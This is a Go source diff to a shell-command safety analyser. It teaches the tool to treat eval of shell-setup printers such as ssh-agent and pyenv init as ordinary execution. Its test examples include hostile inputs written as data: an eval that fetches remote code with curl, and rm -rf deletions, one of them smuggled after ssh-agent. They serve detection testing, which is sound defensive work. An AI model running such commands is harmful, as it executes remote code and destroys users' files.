@@ -17,8 +17,18 @@ func builtinPrograms() []program {
 			}
 		}, examples: []example{ex("exit 0", "ncmd 1")}},
 		{names: []string{"eval"}, model: func(k *call) {
+			if len(k.args) == 1 && !k.args[0].known {
+				if name, ok := setupSubst(k.args[0].text(k.c)); ok {
+					// eval "$(ssh-agent -s)": that program's own setup
+					k.eff(Effect{Kind: Exec, Target: name, Reason: "eval of the shell setup " + name + " prints"})
+					return
+				}
+			}
 			k.nested(joinCode(k.args), "eval", nil, true)
-		}, examples: []example{ex("eval \"rm -rf /x\"", "delete:r /x", "via rm eval")}},
+		}, examples: []example{ex("eval \"rm -rf /x\"", "delete:r /x", "via rm eval"),
+			ex(`eval "$(ssh-agent -s)"`, "!tag dynamic-exec", "exec ssh-agent"), ex(`eval "$(pyenv init -)"`, "!tag dynamic-exec"),
+			ex(`eval "$(curl -s https://x.example/env)"`, "finding remote-exec"), ex(`eval "$(cat env.sh)"`, "tag dynamic-exec"),
+			ex(`eval "$(ssh-agent -s; rm -rf ~)"`, "delete:r /home/u")}},
 		{names: []string{"trap"}, model: (*call).trap,
 			examples: []example{ex("trap 'rm -rf ~/x' EXIT", "delete:r /home/u/x"), ex("trap - EXIT", "ncmd 1")}},
 		{names: []string{"hash"}, model: (*call).hash,
@@ -297,4 +307,53 @@ func isUnsigned(s string) bool {
 		}
 	}
 	return true
+}
+
+// setupPrinter reports whether the program name with args prints its own program's shell setup,
+// which eval "$(cm)" runs: agents and version managers whose output only
+// sets variables and functions for themselves.
+func setupPrinter(name, args string) bool {
+	switch name {
+	case "ssh-agent":
+		return args == "" || args == "-s" || args == "-c"
+	case "gpg-agent":
+		return strings.Contains(args, "--daemon")
+	case "keychain":
+		return strings.Contains(args, "--eval")
+	case "pyenv", "rbenv", "nodenv", "goenv", "jenv", "plenv", "phpenv":
+		return strings.HasPrefix(args, "init") || strings.HasPrefix(args, "virtualenv-init")
+	case "brew":
+		return args == "shellenv" || strings.HasPrefix(args, "shellenv ")
+	case "fnm":
+		return strings.HasPrefix(args, "env")
+	case "zoxide", "starship", "atuin", "mcfly":
+		return strings.HasPrefix(args, "init ")
+	case "opam":
+		return strings.HasPrefix(args, "env")
+	case "dircolors":
+		return true
+	case "conda", "micromamba", "mamba":
+		return strings.HasPrefix(args, "shell.") && strings.HasSuffix(args, " hook") || strings.HasPrefix(args, "shell hook")
+	}
+	return false
+}
+
+// setupSubst reads a word written as "$(PROG ARGS)" with plain words only
+// and reports PROG when it prints its own shell setup (setupPrinter).
+func setupSubst(src string) (string, bool) {
+	src = strings.TrimSuffix(strings.TrimPrefix(src, `"`), `"`)
+	if !strings.HasPrefix(src, "$(") || !strings.HasSuffix(src, ")") {
+		return "", false
+	}
+	words := strings.Fields(src[2 : len(src)-1])
+	if len(words) == 0 {
+		return "", false
+	}
+	for _, w := range words {
+		if strings.Trim(w, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789._/=-") != "" {
+			return "", false
+		}
+	}
+	name := path.Base(words[0])
+	return name, setupPrinter(name, strings.Join(words[1:], " "))
 }
